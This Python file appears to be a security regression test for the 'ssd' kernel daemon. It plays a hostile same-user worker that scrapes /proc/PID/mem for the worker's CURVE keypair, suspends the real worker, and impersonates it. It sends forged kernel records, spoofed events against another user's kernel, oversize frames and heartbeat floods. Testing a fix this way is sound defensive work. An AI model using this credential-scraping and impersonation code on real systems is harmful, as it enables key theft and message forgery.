"""A hostile per-user worker: run as that user (not as root), it takes over the user's own kernel worker.

What it does is what the user can do without any help from ssd: read the memory of a process that runs
as that user (``/proc/PID/mem``: same uid, dumpable after exec, no Yama restriction here) to find the
worker's backend endpoint and CURVE keypair, stop that worker (SIGSTOP), and speak the backend protocol
with its key. Then it sends what the audit of issue 13 sent, and prints a JSON report on stdout.

Usage: python hostile_worker.py JSON   (see ``Plan``)
"""

from __future__ import annotations

import base64
import json
import os
import re
import signal
import sys
import time
import uuid
from typing import Any

import msgspec
import zmq
import zmq.utils.z85
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from ssd.keys import fingerprint

TAG = b"SSDW1"
_Z85 = re.compile(rb"[0-9a-zA-Z.\-:+=^!/*?&<>()\[\]{}@%$#]{40,}")
FORGED = {"ip": "203.0.113.66", "shell_port": 6666, "key": "forged-by-the-attacker", "transport": "tcp"}


class Plan(msgspec.Struct):
    """What the test tells the attacker: whose worker to take, and what it knows of the victim."""

    pid: int
    user: str
    alice: str
    alice_key: str  # the victim's client public key (public keys are no secret)
    alice_kernel: str
    records: int
    oversize: int
    flood: int


def memory(pid: int) -> bytes:
    """The readable memory of *pid* (as its own user may read it)."""
    chunks = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or end - start > 256 << 20 or (len(fields) > 5 and fields[5].startswith("[v")):
                continue
            try:
                mem.seek(start)
                chunks.append(mem.read(end - start))
            except OSError:
                continue
    return b"\0".join(chunks)


def steal(pid: int) -> tuple[str, bytes, bytes]:
    """The backend endpoint and the CURVE keypair in the worker's memory (a secret whose public key is there too)."""
    blob = memory(pid)
    ports = re.findall(rb"tcp://127\.0\.0\.1:(\d+)", blob)
    candidates: set[bytes] = set()
    for run in _Z85.findall(blob):
        candidates.update((run[:40], run[-40:]))
    for secret in candidates:
        try:
            public = zmq.curve_public(secret)
        except (ValueError, zmq.ZMQError):
            continue
        if public in candidates:
            return f"tcp://127.0.0.1:{int(ports[0])}", public, secret
    raise SystemExit("no keypair found in the worker's memory")


def seal_v1(plaintext: bytes, recipient: str, context: bytes) -> dict[str, Any]:
    """A box anyone can make for a known public key (the format of ssd before the fix)."""
    ephemeral = X25519PrivateKey.generate()
    epk = ephemeral.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    raw = zmq.utils.z85.decode(recipient.encode())
    shared = ephemeral.exchange(X25519PublicKey.from_public_bytes(raw))
    key = HKDF(algorithm=hashes.SHA256(), length=32, salt=None, info=b"ssd sealed box v1" + epk + raw).derive(shared)
    nonce = os.urandom(12)
    box = ChaCha20Poly1305(key).encrypt(nonce, plaintext, context)
    to = {
        fingerprint(recipient.encode()): {
            "nonce": base64.b64encode(nonce).decode(),
            "box": base64.b64encode(box).decode(),
        }
    }
    return {"v": 1, "epk": base64.b64encode(epk).decode(), "to": to}


def record(plan: Plan, kernel_id: str) -> bytes:
    """A kernel record that names no real process."""
    document = {
        "kernel_id": kernel_id, "user": plan.user, "name": "fake", "env": "/nowhere", "env_name": "fake",
        "kind": "ipykernel", "pid": 999_999, "start_ticks": 0, "started": time.time(), "connection": dict(FORGED),
        "connection_file": "/nowhere/k.json", "log_file": "/nowhere/k.log", "cwd": "/", "argv": ["true"],
        "environ": {},
    }  # fmt: skip
    return json.dumps(document).encode()


def alive(pid: int) -> bool:
    """Whether *pid* is still a live process (a zombie is not)."""
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except OSError:
        return False


def attack(plan: Plan, server_key: bytes) -> dict[str, Any]:
    """Take the worker's place and send everything; report what it saw."""
    endpoint, public, secret = steal(plan.pid)
    os.kill(plan.pid, signal.SIGSTOP)  # the real worker falls silent; we answer its heartbeats
    ctx = zmq.Context()

    def dealer() -> zmq.Socket[bytes]:
        sock = ctx.socket(zmq.DEALER)
        sock.linger, sock.sndhwm = 5000, 0
        sock.curve_serverkey, sock.curve_publickey, sock.curve_secretkey = server_key, public, secret
        sock.connect(endpoint)
        return sock

    sock = dealer()

    def send(*frames: bytes) -> None:
        sock.send_multipart([TAG, *frames])

    send(b"HB")
    fake = [str(uuid.uuid4()) for _ in range(plan.records)]
    for kernel_id in fake:
        send(b"KERNEL", kernel_id.encode(), record(plan, kernel_id))
    marker = {"name": "HOSTILE", "env": "/nowhere", "kind": "ipykernel"}
    forged_box = seal_v1(json.dumps(FORGED).encode(), plan.alice_key, b"ssd kernel connection " + fake[0].encode())
    old_style: list[
        tuple[str, dict[str, Any]]
    ] = [  # the protocol before the fix: a topic of the worker's choosing, the kind inside the body
        (f"kernel.{plan.alice}.{plan.user}", {"kernel_id": fake[0], "state": "ready", "sealed_connection": forged_box}),
        (f"kernel.{plan.alice}2.{plan.user}", {"kernel_id": fake[0], "state": "ready"}),
        (f"kernel.{plan.user}", {"kernel_id": plan.alice_kernel, "state": "dead", "exit_code": 9}),
        (f"env_progress.{plan.alice}.{plan.user}", {"operation": "x", "state": "done", "line": "HOSTILE"}),
    ]
    for topic, body in old_style:
        send(b"EVENT", topic.encode(), json.dumps({"event": "kernel_state", **marker, **body}).encode())
    new_style: list[dict[str, Any]] = [  # the protocol after the fix: the kind, and a body about someone else's things
        {"kernel_id": plan.alice_kernel, "state": "dead", "exit_code": 9},
        {"kernel_id": fake[0], "state": "ready", "sealed_connection": forged_box},
    ]
    for body in new_style:
        send(b"EVENT", b"kernel_state", json.dumps({**marker, **body}).encode())
    send(b"EVENT", b"env_progress", json.dumps({"operation": "x", "kind": "create", "target": "HOSTILE",
        "phase": "x", "line": "HOSTILE", "percent": None, "state": "done"}).encode())  # fmt: skip
    send(b"HB")
    big = dealer()  # a connection of its own: the broker may drop the one that sends too large a frame
    big.send_multipart([TAG, b"EVENT", b"kernel_state", b"x" * plan.oversize])
    big.close()
    for _ in range(plan.flood):
        send(b"HB")
    killed = False
    deadline = time.monotonic() + 15.0
    while time.monotonic() < deadline and not killed:  # go on heartbeating like a live worker
        send(b"HB")
        time.sleep(0.2)
        killed = not alive(plan.pid)
    sock.close()
    ctx.term()
    return {"stole": True, "fake_records": len(fake), "worker_killed_while_heartbeating": killed}


def main() -> None:
    """Read the plan from argv, the server's public key from stdin."""
    plan = msgspec.json.decode(sys.argv[1].encode(), type=Plan)
    print(json.dumps(attack(plan, sys.stdin.readline().strip().encode())), flush=True)


if __name__ == "__main__":
    main()
